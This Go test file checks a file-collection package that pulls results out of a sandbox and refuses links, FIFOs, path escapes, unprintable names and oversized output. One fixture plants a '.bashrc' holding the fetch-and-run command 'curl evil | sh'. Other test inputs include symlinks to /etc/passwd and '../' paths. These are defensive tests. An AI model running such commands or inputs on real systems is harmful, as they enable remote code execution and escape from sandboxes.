package collect

import (
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

func write(t *testing.T, p, s string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestCollect: patterns match regular files below the scratch only; a
// link (to a file outside, or a directory) is reported and never read,
// as is a FIFO (which would block a reader) and a file past the cap.
func TestCollect(t *testing.T) {
	outside := t.TempDir()
	write(t, filepath.Join(outside, "secret"), "host secret")
	dir := t.TempDir()
	bin := string([]byte{0, 1, 2, 0xff, 0xfe})
	write(t, filepath.Join(dir, "out/a.png"), bin)
	write(t, filepath.Join(dir, "out/b.png"), "b")
	write(t, filepath.Join(dir, "out/c.txt"), "c")
	write(t, filepath.Join(dir, "out/deep/d.png"), "d")
	write(t, filepath.Join(dir, "big.bin"), strings.Repeat("x", 100))
	write(t, filepath.Join(dir, "report.txt"), "report")
	must(t, os.Symlink(filepath.Join(outside, "secret"), filepath.Join(dir, "out/leak.png")))
	must(t, os.Symlink(outside, filepath.Join(dir, "linkdir")))
	must(t, unix.Mkfifo(filepath.Join(dir, "out/fifo.png"), 0o644))
	write(t, filepath.Join(dir, "out/nl\nname.png"), "n")
	write(t, filepath.Join(dir, "out/esc\x1b[31mred.png"), "e")

	res, err := Path(dir, []string{"out/*.png", "report.txt", "linkdir/secret", "*/*/d.png", "big.bin", "missing", "out"}, 64)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"out/a.png": bin, "out/b.png": "b", "report.txt": "report", "out/deep/d.png": "d"}
	if len(res.Files) != len(want) {
		t.Errorf("files %q, want %q", res.Files, want)
	}
	for k, v := range want {
		if res.Files[k] != v {
			t.Errorf("%s = %q, want %q", k, res.Files[k], v)
		}
	}
	for _, line := range []string{
		"out/leak.png: a symbolic link, not followed",
		"out/fifo.png: not a regular file",
		"linkdir: a symbolic link, not followed",
		"missing: matched nothing",
		"out: not a regular file",
		`"out/nl\nname.png": the name holds a character that is not printable`,
		`"out/esc\x1b[31mred.png": the name holds a character that is not printable`,
	} {
		if !slices.Contains(res.Skipped, line) {
			t.Errorf("skipped %q lacks %q", res.Skipped, line)
		}
	}
	if !slices.ContainsFunc(res.Skipped, func(s string) bool { return strings.HasPrefix(s, "big.bin: 100 bytes, over") }) {
		t.Errorf("skipped %q does not name big.bin over the cap", res.Skipped)
	}
	for _, v := range res.Files {
		if strings.Contains(v, "host secret") {
			t.Fatal("a link was followed out of the scratch")
		}
	}
}

// TestCollectScratchLink: a scratch directory that is itself a link is
// refused.
func TestCollectScratchLink(t *testing.T) {
	dir := t.TempDir()
	must(t, os.Symlink(t.TempDir(), filepath.Join(dir, "s")))
	if _, err := Path(filepath.Join(dir, "s"), []string{"x"}, 0); err == nil {
		t.Fatal("collected through a linked scratch directory")
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// TestAccept: what an agent sends is held to the same bounds on the
// host: escaping or unclean names and bytes past the cap are dropped.
func TestAccept(t *testing.T) {
	res := Accept(Wire{
		Files: map[string][]byte{"ok.txt": []byte("ok"), "../x": nil, "/etc/passwd": nil, "a//b": nil, "a\x1bb": nil,
			"big": make([]byte, MaxBytes+1)},
		Skipped: []string{"l: a symbolic link, not followed", "\x1b[31mred"},
	}, []string{"*"})
	if len(res.Files) != 1 || res.Files["ok.txt"] != "ok" {
		t.Errorf("accepted %q", slices.Sorted(maps.Keys(res.Files)))
	}
	if len(res.Skipped) != 7 || !slices.Contains(res.Skipped, "big: over the cap") || !slices.Contains(res.Skipped, `"\x1b[31mred"`) {
		t.Errorf("skipped %q", res.Skipped)
	}
}

// TestAcceptOnlyNamed: an agent that sends files the job's patterns do not
// name (a hostile guest writing where --out DIR would put them: a shell's
// start-up file, a git hook) gets none of them accepted; what the
// patterns name, element by element as Walk matches, still is.
func TestAcceptOnlyNamed(t *testing.T) {
	res := Accept(Wire{Files: map[string][]byte{
		"out/a.png": []byte("png"), "report.txt": []byte("r"), "out/x/b.png": []byte("deeper"),
		".bashrc": []byte("curl evil | sh"), ".git/hooks/post-checkout": []byte("#!/bin/sh\n"),
		"out/a.txt": []byte("other suffix"), "report.txt/x": nil,
	}}, []string{"out/*.png", "report.txt", "*/[.]git"})
	if got := slices.Sorted(maps.Keys(res.Files)); !slices.Equal(got, []string{"out/a.png", "report.txt"}) {
		t.Errorf("accepted %q", got)
	}
	for _, n := range []string{".bashrc", ".git/hooks/post-checkout", "out/x/b.png", "out/a.txt", "report.txt/x"} {
		if !slices.Contains(res.Skipped, show(n)+": named by no collect pattern") {
			t.Errorf("skipped %q does not name %s", res.Skipped, n)
		}
	}
}

// TestAcceptBoundsNotes: an agent that sends a flood of names the host
// refuses, or names and notes of megabytes, gets as many notes into the
// result as a walk could write, each a bounded length, and a count of
// the rest; not one note per name it sent, nor its names whole.
func TestAcceptBoundsNotes(t *testing.T) {
	files := map[string][]byte{}
	for i := range 20_000 {
		files[fmt.Sprintf("../%d", i)] = nil
	}
	long := strings.Repeat("é", 1<<20)
	files["/"+long] = nil
	files["x/"+long] = nil
	skipped := make([]string, 20_000)
	for i := range skipped {
		skipped[i] = "\x00" + long[:4096]
	}
	res := Accept(Wire{Files: files, Skipped: skipped}, []string{"*"})
	total := 0
	for _, s := range res.Skipped {
		total += len(s)
		if len(s) > 8*1024 {
			t.Fatalf("a note of %d bytes: %.80q...", len(s), s)
		}
	}
	const most = 2*1024 + 64 // notes a walk of 1024 files could write
	if len(res.Skipped) > most+1 || total > (most+1)*8*1024 {
		t.Fatalf("%d notes of %d bytes in all", len(res.Skipped), total)
	}
	if last := res.Skipped[len(res.Skipped)-1]; last != fmt.Sprintf("... and %d more", len(files)+len(skipped)-most) {
		t.Errorf("last note %q", last)
	}
	if !slices.Contains(res.Skipped, "../0: not a clean relative path") {
		t.Errorf("notes %q... do not begin with the refused names", res.Skipped[:3])
	}
}

// TestWalkBoundsNotes: a program that leaves thousands of things the walk
// refuses (FIFOs, links) and paths of hundreds of kilobytes (a chain of
// directories with long names, which openat walks without PATH_MAX)
// gets no more notes, nor longer ones, into the result than Accept lets
// an agent send, and no file under a path longer than PATH_MAX.
func TestWalkBoundsNotes(t *testing.T) {
	dir := t.TempDir()
	for i := range 3000 {
		must(t, unix.Mkfifo(filepath.Join(dir, fmt.Sprintf("f%05d", i)), 0o644))
	}
	// 40 levels of 250-byte names: 10 KB paths, each level also holding a
	// link and a file the deep pattern names.
	name := strings.Repeat("d", 250)
	fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	must(t, err)
	comps := []string{}
	for i := range 40 {
		must(t, unix.Mkdirat(fd, name, 0o755))
		next, err := unix.Openat(fd, name, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		must(t, err)
		unix.Close(fd)
		fd = next
		comps = append(comps, "*")
		for j := range 3 {
			must(t, unix.Symlinkat("/etc/passwd", fd, fmt.Sprintf("l%d%s", j, name[:200])))
		}
		ffd, err := unix.Openat(fd, "x"+name[:200], unix.O_CREAT|unix.O_WRONLY, 0o644)
		must(t, err)
		unix.Close(ffd)
		_ = i
	}
	unix.Close(fd)
	deep := strings.Join(append(comps[:len(comps):len(comps)], "*"), "/")
	res, err := Path(dir, []string{deep, "*"}, 0)
	must(t, err)
	total := 0
	for _, s := range res.Skipped {
		total += len(s)
		if len(s) > 8*1024 {
			t.Fatalf("a note of %d bytes: %.80q...", len(s), s)
		}
	}
	if len(res.Skipped) > maxNotes+1 {
		t.Fatalf("%d notes (%d bytes in all), more than the %d Accept keeps", len(res.Skipped), total, maxNotes+1)
	}
	if last := res.Skipped[len(res.Skipped)-1]; !strings.HasPrefix(last, "... and ") {
		t.Errorf("last note %q does not count what was left out", last)
	}
	for k := range res.Files {
		if len(k) > maxPath {
			t.Errorf("collected a file under a path of %d bytes", len(k))
		}
	}
	if !slices.ContainsFunc(res.Skipped, func(s string) bool {
		return strings.HasSuffix(s, fmt.Sprintf("the path is longer than %d bytes", maxPath))
	}) {
		t.Errorf("no note names a path over %d bytes", maxPath)
	}
}
